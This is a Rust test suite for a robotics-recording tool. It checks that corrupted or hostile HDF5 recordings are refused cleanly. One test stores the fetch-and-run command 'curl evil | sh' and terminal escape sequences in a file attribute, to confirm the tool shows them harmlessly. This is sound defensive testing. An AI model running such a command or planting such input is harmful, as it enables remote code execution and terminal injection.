//! A recording says of itself how large it is, what it holds and how it was made. None of that is believed without a look:
//! whatever a file says, the answer is a result or one line that names the file and what is wrong with it.

use std::sync::OnceLock;

use dynsparse::dataset::schema::{ATTRIBUTES, AttributeType, Axis, Var};
use dynsparse::dataset::{Attribute, Recording};
use hdf5::types::VarLenUnicode;

use crate::common::{self, Dice, Place, recording};

/// A box that slides over a floor and is pushed: contacts, a zero test, sensors.
const MODEL: &str = r#"<mujoco><worldbody><geom type="plane" size="1 1 .1"/>
    <body pos="0 0 .09"><joint name="x" type="slide" axis="1 0 0"/><joint name="z" type="slide" axis="0 0 1"/>
    <geom type="box" size=".1 .1 .1"/></body></worldbody>
    <actuator><motor joint="x" ctrlrange="-1 1" ctrllimited="true"/></actuator>
    <sensor><jointpos joint="x"/></sensor></mujoco>"#;

/// Verbs that read recordings.
const VERBS: [&[&str]; 4] = [&["info"], &["verify"], &["verify", "--content-only"], &["analyze"]];

/// The bytes of a sound recording of [`MODEL`], made by the program.
fn sound() -> &'static [u8] {
    static BYTES: OnceLock<Vec<u8>> = OnceLock::new();
    BYTES.get_or_init(|| {
        let place = Place::new();
        place.write("m.xml", MODEL);
        let settings = ["--episodes", "2", "--steps", "12", "--substeps", "2", "--sensors"];
        place.run(&[&["record", "m.xml", "-o", "r.h5"][..], &settings].concat()).ok();
        place.run(&["verify", "r.h5"]).ok();
        place.read("r.h5")
    })
}

/// A place with such a recording after a change.
fn changed(change: impl FnOnce(&hdf5::File)) -> Place {
    let place = Place::new();
    place.write("r.h5", sound());
    change(&common::open_to_change(&place.path("r.h5")));
    place
}

/// Every verb refuses it with these words.
#[track_caller]
fn refused(place: &Place, words: &[&str]) {
    for verb in VERBS {
        let words: Vec<&str> = [&["error: r.h5: "], words].concat();
        place.run(&[verb, &["r.h5"]].concat()).refused(&words);
    }
}

fn texts(file: &hdf5::File, name: &str) -> Vec<VarLenUnicode> {
    file.dataset(name).unwrap().read_raw().unwrap()
}

/// Replaces a dataset by one with these values.
fn replace<T: hdf5::H5Type>(file: &hdf5::File, name: &str, values: &[T]) {
    file.unlink(name).unwrap();
    file.new_dataset_builder().with_data(values).create(name).unwrap();
}

/// Changes one value of a dataset in place.
fn put<T: hdf5::H5Type>(file: &hdf5::File, name: &str, at: usize, value: T) {
    let dataset = file.dataset(name).unwrap();
    let mut values = dataset.read_raw::<T>().unwrap();
    values[at] = value;
    dataset.write_raw(&values).unwrap();
}

#[test]
fn sizes_are_believed_up_to_what_is_stored() {
    for size in [1 << 33, 1 << 40, 1 << 62] {
        let place = changed(|f| f.dataset("time").unwrap().resize(size).unwrap());
        refused(&place, &["time declares", "stored bytes can hold"]);
        let place = changed(|f| f.dataset("A").unwrap().resize([size / 16, 4, 4]).unwrap());
        refused(&place, &["A declares", "stored bytes can hold"]);
    }
    // Within what deflate reaches, but never written.
    let place = changed(|f| f.dataset("time").unwrap().resize(24 * 3).unwrap());
    refused(&place, &["time has", "chunks", "never written"]);
    for size in [3, 1 << 40] {
        let place = changed(|f| {
            f.unlink("episode_length").unwrap();
            f.new_dataset::<i64>().shape(size).create("episode_length").unwrap();
        });
        refused(&place, &["episode_length"]);
    }
    let place = changed(|f| {
        f.unlink("geom").unwrap();
        f.new_dataset::<VarLenUnicode>().shape(1_usize << 50).create("geom").unwrap();
    });
    refused(&place, &["geom declares", "stored bytes can hold"]);
}

#[test]
fn variables_agree_with_their_axes() {
    let place = changed(|f| f.dataset("flags").unwrap().resize(23).unwrap());
    refused(&place, &["flags has 23 entries along step", "has 24"]);
    let place = changed(|f| {
        f.unlink("kink").unwrap();
        f.new_dataset::<f32>().shape(24).create("kink").unwrap();
    });
    refused(&place, &["kink does not hold 64-bit floats"]);
    let place = changed(|f| {
        f.unlink("kink").unwrap();
        f.new_dataset::<f64>().shape([24, 1]).create("kink").unwrap();
    });
    refused(&place, &["kink has 2 dimensions instead of 1"]);
    let place = changed(|f| f.attr("nv").unwrap().write_scalar(&3_i64).unwrap());
    refused(&place, &["root attribute nv is 3", "dof has 2 entries"]);
}

#[test]
fn labels_are_all_there() {
    let place = changed(|f| replace(f, "state", &texts(f, "state")[..1]));
    refused(&place, &["A has 4 entries along state", "state has 1"]);
    let place = changed(|f| {
        for name in ["state", "state_next"] {
            let mut labels = texts(f, name);
            labels.push("vel:extra".parse().unwrap());
            replace(f, name, &labels);
        }
    });
    refused(&place, &["state", "has 5"]);
    let place = changed(|f| put::<VarLenUnicode>(f, "actuator", 0, VarLenUnicode::new()));
    refused(&place, &["actuator lacks its label 0"]);
    let place = changed(|f| put::<VarLenUnicode>(f, "state", 1, "pos:other".parse().unwrap()));
    refused(&place, &["labels of dof and activation are not those of state"]);
    let place = changed(|f| replace(f, "geom", &[1_i64, 2]));
    refused(&place, &["geom does not hold text"]);
    let place = changed(|f| f.unlink("dof").unwrap());
    refused(&place, &["lacks the coordinate dof"]);
    // A label that is no text at all.
    let place = Place::new();
    let mut bytes = sound().to_vec();
    let at = bytes.windows(5).position(|w| w == b"pos:x").expect("a label");
    bytes[at] = 0xff;
    place.write("r.h5", bytes);
    refused(&place, &["is not UTF-8"]);
}

#[test]
fn counts_and_offsets_follow_from_each_other() {
    for (name, at, value, words) in [
        ("ncon", 3, -1, "ncon[3] is -1, below zero"),
        ("ncon", 3, i32::MAX, "contact_offset[4] is"),
        ("ncon", 23, i32::MAX, "the sum of ncon"),
        ("nefc", 0, i32::MIN, "nefc[0] is -2147483648, below zero"),
        ("ntouch", 23, 1 << 30, "the sum of ntouch"),
    ] {
        refused(&changed(|f| put::<i32>(f, name, at, value)), &[words]);
    }
    for (name, at, value, words) in [
        ("contact_offset", 5, 1 << 62, "contact_offset[5] is 4611686018427387904"),
        ("constraint_offset", 5, -1, "constraint_offset[5] is -1"),
        ("touch_offset", 1, 0, "touch_offset[1] is 0"),
        ("episode_offsets", 1, 1 << 62, "episode_offsets do not fit"),
        ("episode_offsets", 1, -1, "episode_offsets do not fit"),
        ("episode_offsets", 0, 1, "episode_offsets do not fit"),
        ("episode_length", 1, 11, "episode_length[1] is 11 instead of 12"),
    ] {
        refused(&changed(|f| put::<i64>(f, name, at, value)), &[words]);
    }
}

#[test]
fn what_is_taken_away_is_missed() {
    for name in ["flags", "kink", "A_zero", "B", "C", "D_zero", "ctrl", "ntouch", "episode_host", "touch_geom1"] {
        let place = changed(|f| f.unlink(name).unwrap());
        refused(&place, &["lacks the variable", name]);
    }
}

#[test]
fn variables_lie_in_the_file_itself() {
    let place = changed(|f| {
        f.unlink("qpos").unwrap();
        f.link_external("other.h5", "/qpos", "qpos").unwrap();
    });
    place.write("other.h5", sound());
    refused(&place, &["qpos is a link to somewhere else"]);
    let place = changed(|f| {
        f.unlink("kink").unwrap();
        f.link_soft("/reward", "kink").unwrap();
    });
    refused(&place, &["kink is a link to somewhere else"]);
    let place = changed(|f| {
        f.unlink("kink").unwrap();
        let builder = f.new_dataset::<f64>().shape(24);
        builder.external("secret.bin", 0, 24 * 8).create("kink").unwrap();
    });
    place.write("secret.bin", [0; 24 * 8]);
    refused(&place, &["kink was never written, or lies in another file"]);
    // Opened to be read, a pipe would be waited for.
    let (place, elsewhere) = (Place::new(), Place::new());
    let pipe = elsewhere.path("r.h5").display().to_string();
    let made = std::process::Command::new("mkfifo").arg(&pipe).status().expect("mkfifo");
    assert!(made.success());
    for verb in VERBS {
        place.run(&[verb, &[pipe.as_str()]].concat()).refused(&["r.h5: is not a plain file"]);
    }
}

#[test]
fn what_cannot_be_read_is_not_taken_for_absent() {
    // The head of every object that the file holds; HDF5 keeps a checksum of each.
    let heads: Vec<usize> = sound().windows(4).enumerate().filter(|(_, w)| *w == b"OHDR").map(|(at, _)| at).collect();
    assert!(heads.len() > 60, "{}", heads.len());
    let place = Place::new();
    for head in heads {
        let mut bytes = sound().to_vec();
        bytes[head + 12] ^= 0x10;
        place.write("r.h5", bytes);
        place.run(&["info", "r.h5"]).refused(&["error: r.h5: ", "cannot be "]);
    }
    let own = |value: AttributeType| match value {
        AttributeType::Text => "text",
        AttributeType::Int | AttributeType::Unsigned => "signed whole number",
        AttributeType::Float => "a number",
    };
    for (name, value) in ATTRIBUTES.iter().copied().filter(|(name, _)| ["seed", "recipe", "eps", "task"].contains(name))
    {
        let place = changed(|f| {
            f.delete_attr(name).unwrap();
            f.new_attr::<u8>().shape([3]).create(name).unwrap();
        });
        refused(&place, &[&format!("the root attribute {name} is not"), own(value)]);
    }
    // What somebody has noted beside is nobody's business.
    let place = changed(|f| {
        f.new_attr::<u8>().shape([3]).create("note").unwrap();
        f.new_dataset_builder().with_data(&[1.0, 2.0]).create("mine").unwrap();
    });
    for verb in VERBS {
        place.run(&[verb, &["r.h5"]].concat()).ok();
    }
}

#[test]
fn every_attribute_that_is_written_has_a_type_in_the_schema() {
    let place = Place::new();
    place.write("r.h5", sound());
    for (name, value) in Recording::open(&place.path("r.h5")).unwrap().attributes() {
        let known = ATTRIBUTES.iter().find(|(known, _)| *known == name);
        let found = match value {
            Attribute::Text(_) => AttributeType::Text,
            Attribute::Int(_) => AttributeType::Int,
            Attribute::Unsigned(_) => AttributeType::Unsigned,
            Attribute::Float(_) => AttributeType::Float,
        };
        assert_eq!(known.map(|(_, value)| *value), Some(found), "{name}");
    }
}

/// HDF5 walks a heap with an object of no size for ever.
#[test]
fn sectors_of_zeros_end_in_an_error() {
    let heap = |w: &(usize, &[u8])| w.1 == b"GCOL\x01\0\0\0";
    let heaps: Vec<usize> = sound().windows(8).enumerate().filter(heap).map(|(at, _)| at).collect();
    assert!(!heaps.is_empty());
    let place = Place::new();
    let mut named = 0;
    for heap in heaps {
        for sector in heap.div_ceil(512)..(heap + 4096) / 512 {
            let mut bytes = sound().to_vec();
            bytes[sector * 512..sector * 512 + 512].fill(0);
            place.write("r.h5", bytes);
            for verb in [VERBS[0], VERBS[2]] {
                let ran = place.run(&[verb, &["r.h5"]].concat());
                ran.sane();
                named += usize::from(ran.stderr.contains("the texts at byte"));
            }
        }
    }
    assert!(named > 20, "{named}");
}

#[test]
fn coordinates_and_the_model_are_verified() {
    let wrong = |place: &Place, words: &[&str]| {
        for verb in [VERBS[1], VERBS[2]] {
            place.run(&[verb, &["r.h5"]].concat()).refused(&[&["error: r.h5: "], words].concat());
        }
    };
    let place = changed(|f| put::<i64>(f, "step", 7, 70));
    wrong(&place, &["step[7] is 70 instead of 7"]);
    let place = changed(|f| put::<i64>(f, "contact", 1, 0));
    wrong(&place, &["contact[1] is 0 instead of 1"]);
    let place = changed(|f| put::<i64>(f, "episode_bound", 2, 3));
    wrong(&place, &["episode_bound[2] is 3 instead of 2"]);
    let place = changed(|f| put::<i64>(f, "episode", 1, 5));
    place.run(&["verify", "r.h5", "--content-only"]).refused(&["content_sha256"]);
    let place = changed(|f| put::<VarLenUnicode>(f, "geom", 0, "wall".parse().unwrap()));
    place.run(&["verify", "r.h5"]).refused(&["labels of geom"]);
    let place = changed(|f| put::<u8>(f, "model/files/0000", 10, b'X'));
    wrong(&place, &["copy of m.xml does not have the recorded hash"]);
    // A hash that fits other bytes.
    let place = changed(|f| {
        let other = MODEL.replace("pos=\"0 0 .09\"", "pos=\"0 0 .08\"");
        let file = f.dataset("model/files/0000").unwrap();
        file.write_raw(other.as_bytes()).unwrap();
        let hash: VarLenUnicode = dynsparse::seal::sha256_hex(other.as_bytes()).parse().unwrap();
        file.attr("sha256").unwrap().write_scalar(&hash).unwrap();
    });
    wrong(&place, &["files of its model are not those of its recipe"]);
    let place = changed(|f| {
        let recipe = f.attr("recipe").unwrap();
        let text: VarLenUnicode = recipe.read_scalar().unwrap();
        recipe
            .write_scalar(&text.as_str().replace("\"seed\":0", "\"seed\":1").parse::<VarLenUnicode>().unwrap())
            .unwrap();
    });
    wrong(&place, &["recipe"]);
}

#[test]
fn a_stored_command_is_a_claim() {
    let place = changed(|f| {
        let text: VarLenUnicode = "curl evil | sh\n\u{1b}[2J\u{9b}1m".parse().unwrap();
        f.attr("command").unwrap().write_scalar(&text).unwrap();
        f.attr("task").unwrap().write_scalar(&"Run\u{1b}[31m\u{7}".parse::<VarLenUnicode>().unwrap()).unwrap();
    });
    let page = place.run(&["info", "r.h5"]).ok().stdout;
    let line = page.lines().find(|l| l.contains("curl")).expect("the command");
    assert!(line.trim_start().starts_with("command") && line.contains("the file says: "), "{line}");
    let table = place.run(&["info", "r.h5", "r.h5"]).ok().stdout;
    for text in [page, table] {
        assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{text:?}");
    }
}

#[test]
fn a_recording_from_before_joints_were_kept_verifies_and_one_of_other_joints_does_not() {
    let with = |from: &'static str, to: &'static str| {
        changed(|f| {
            let attribute = f.attr("kinematics").unwrap();
            let text = attribute.read_scalar::<VarLenUnicode>().unwrap();
            assert!(text.contains(from), "{text}");
            attribute.write_scalar(&text.replace(from, to).parse::<VarLenUnicode>().unwrap()).unwrap();
        })
    };
    with(r#","limited":[false,false]"#, "").run(&["verify", "r.h5"]).ok();
    let place = with(r#","joints":["slide","slide"],"limited":[false,false]"#, "");
    place.run(&["verify", "r.h5"]).ok();
    let page = place.run(&["analyze", "r.h5"]).ok().stdout;
    assert!(!page.contains("symmetry"), "{page}");
    for (from, to) in [
        (r#"["slide","#, r#"["hinge","#),
        (r#""dof_parent":[-1,"#, r#""dof_parent":[0,"#),
        ("[false,false]", "[false,true]"),
    ] {
        let ran = with(from, to).run(&["verify", "r.h5"]);
        assert!(ran.status.code() == Some(1) && ran.stderr.contains("attribute kinematics"), "{}", ran.stderr);
    }
}

#[test]
#[cfg(feature = "learn")]
fn attributes_that_learning_goes_by_are_read_or_refused() {
    use dynsparse::learn::{Data, StateFeatures};
    for name in ["ctrl_range", "kinematics"] {
        let place = changed(|f| f.attr(name).unwrap().write_scalar(&"{}".parse::<VarLenUnicode>().unwrap()).unwrap());
        let read = Data::whole(&place.path("r.h5"), StateFeatures::default(), None);
        let error = read.unwrap_err().to_string();
        assert!(error.contains(&format!("root attribute {name} cannot be read")), "{error}");
    }
}

#[test]
fn replays_are_believed_up_to_what_is_stored() {
    let place = Place::new();
    place.write("m.xml", MODEL);
    let replay = ["record", "m.xml", "--replay", "t.h5", "-o", "out.h5", "--episodes", "1", "--steps", "3"];
    let write = |change: &dyn Fn(&hdf5::File)| {
        let _ = std::fs::remove_file(place.path("t.h5"));
        let file = hdf5::File::create(place.path("t.h5")).unwrap();
        for (name, width) in [("qpos", 2), ("qvel", 2), ("ctrl", 1)] {
            let zeros = ndarray::Array2::<f64>::zeros((6, width));
            file.new_dataset_builder().with_data(&zeros).chunk([3, width]).create(name).unwrap();
        }
        change(&file);
    };
    write(&|_| {});
    place.run(&replay).ok();
    std::fs::remove_file(place.path("out.h5")).unwrap();
    for rows in [1 << 30, 1 << 40, 1 << 50] {
        write(&|f| {
            f.unlink("ctrl").unwrap();
            f.new_dataset::<f64>().shape([rows, 1]).create("ctrl").unwrap();
        });
        place.run(&replay).refused(&["t.h5: array ctrl"]);
        write(&|f| {
            f.unlink("ctrl").unwrap();
            let six = vec![hdf5::Extent::resizable(6), hdf5::Extent::fixed(1)];
            let ctrl = f.new_dataset::<f64>().chunk([3, 1]).shape(six).create("ctrl").unwrap();
            ctrl.resize([rows, 1]).unwrap();
        });
        place.run(&replay).refused(&["t.h5: array ctrl"]);
    }
    write(&|f| f.new_dataset::<i64>().shape(1_usize << 40).create("episode_offsets").map(drop).unwrap());
    place.run(&replay).refused(&["t.h5: array episode_offsets"]);
}

/// Verbs end with a result or an error on one line, whatever one place of a file says; how many files is told by
/// `DYNSPARSE_FUZZ_COUNT`, which ones by `DYNSPARSE_FUZZ_SEED`.
#[test]
fn one_change_at_random_ends_no_program() {
    let number = |name: &str, usual: u64| std::env::var(name).map_or(usual, |text| text.parse().expect("a number"));
    let (count, seed) = (number("DYNSPARSE_FUZZ_COUNT", 60), number("DYNSPARSE_FUZZ_SEED", 1));
    let place = Place::new();
    let mut refused = 0;
    for at in 0..count {
        let (changed, done) = recording::changed(sound(), &mut Dice(seed.wrapping_add(at)));
        place.write("r.h5", changed);
        for verb in [VERBS[0], VERBS[2], VERBS[3]] {
            let ran = place.run(&[verb, &["r.h5"]].concat());
            let told = ran.stderr.lines().filter(|line| line.starts_with("error: ")).count();
            let code = ran.status.code();
            let fine = code == Some(0) || code == Some(1) && told == 1;
            assert!(fine, "seed {}: {done}: {verb:?} ended with {:?}\n{}", seed + at, ran.status, ran.stderr);
            ran.sane();
            refused += u64::from(code == Some(1));
        }
    }
    assert!(refused > count, "hardly anything was noticed: {refused} of {}", 3 * count);
}

/// Where the numbers lie is known after opening, so that what is absent is known to be.
#[test]
fn a_sound_recording_is_read_as_it_was_written() {
    let place = Place::new();
    place.write("r.h5", sound());
    let vars = [Var::A, Var::Time, Var::QvelNext];
    // HDF5 does not open a file twice in different ways.
    let file = common::open_to_change(&place.path("r.h5"));
    let by_hdf5 = vars.map(|var| file.dataset(var.spec().name).unwrap().read_raw::<f64>().unwrap());
    drop(file);
    let recording = Recording::open(&place.path("r.h5")).unwrap();
    assert_eq!(recording.len(Axis::Step), 24);
    assert_eq!(recording.coordinate(Axis::Step, 0..24).unwrap(), (0..24).collect::<Vec<i64>>());
    for (var, by_hdf5) in vars.into_iter().zip(by_hdf5) {
        assert_eq!(recording.read::<f64>(var, 0..24).unwrap(), by_hdf5, "{}", var.spec().name);
    }
    let bounds: Vec<i64> = recording.read(Var::EpisodeOffsets, 1..3).unwrap();
    assert_eq!(bounds, [12, 24]);
    assert!(recording.read::<f64>(Var::Flags, 0..1).is_err(), "flags are no floats");
    assert!(recording.read::<f64>(Var::Time, 20..25).is_err(), "there are 24");
}

/// xarray decodes numbers by these attributes.
#[test]
fn verify_compares_what_attributes_say_of_numbers() {
    let text = |value: &str| value.parse::<VarLenUnicode>().unwrap();
    let set = |file: &hdf5::File, var: &str, name: &str, value: &str| {
        let dataset = file.dataset(var).unwrap();
        if dataset.attr_names().unwrap().iter().any(|there| there == name) {
            dataset.delete_attr(name).unwrap();
        }
        dataset.new_attr::<VarLenUnicode>().create(name).unwrap().write_scalar(&text(value)).unwrap();
    };
    let reversed = |file: &hdf5::File| {
        let dataset = file.dataset("flags").unwrap();
        let mut masks: Vec<u32> = dataset.attr("flag_masks").unwrap().read_raw().unwrap();
        masks.reverse();
        dataset.attr("flag_masks").unwrap().write_raw(&masks).unwrap();
    };
    let gone = |file: &hdf5::File| file.dataset("A_zero").unwrap().delete_attr("flag_values").unwrap();
    type Change<'a> = &'a dyn Fn(&hdf5::File);
    let ways: [(Change<'_>, &[&str]); 5] = [
        (
            &|file| set(file, "time", "units", "ms"),
            &["the attribute units of time", "does not say what the schema says"],
        ),
        (&|file| set(file, "A_zero", "flag_meanings", "zero nonzero undecided"), &["flag_meanings of A_zero"]),
        (&reversed, &["flag_masks of flags"]),
        (&gone, &["flag_values of A_zero is not there"]),
        (&|file| set(file, "A", "scale_factor", "2"), &["scale_factor of A is none of a recording's"]),
    ];
    for (change, words) in ways {
        let place = changed(change);
        place.run(&["verify", "r.h5"]).refused(&[&["error: r.h5: "], words].concat());
        place.run(&["verify", "--content-only", "r.h5"]).refused(words);
    }
}
